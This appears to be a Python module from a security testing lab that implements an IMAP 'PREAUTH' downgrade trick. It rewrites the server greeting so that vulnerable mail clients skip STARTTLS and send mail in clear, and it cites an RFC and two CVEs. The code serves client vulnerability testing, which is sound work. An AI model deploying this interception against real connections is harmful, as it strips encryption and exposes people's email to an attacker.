"""IMAP: logged in before anyone has logged in."""

from __future__ import annotations

from unstrip.lab.speech import Reply, Topic
from unstrip.lab.trick import Actions, ToClient, Trick


class Preauth(Trick):
    """F-03. The greeting says that the session is logged in already.

    STARTTLS is illegal in that state (RFC 9051, 6.2), so clients leave it out and go on in clear,
    up to storing drafts and sent mail with whoever said so (CVE-2020-12398, CVE-2020-14093).
    """

    ID = "F-03"
    NAME = "preauth"
    WHAT = "the greeting claims that the client is logged in already"
    PROTOCOLS = ("imap",)

    def server_says(self, reply: Reply) -> Actions:
        """Replace the greeting."""
        if reply.topic is Topic.GREETING:
            yield ToClient(b"* PREAUTH [CAPABILITY IMAP4rev1 STARTTLS] ready\r\n")
        else:
            yield ToClient(reply.data)
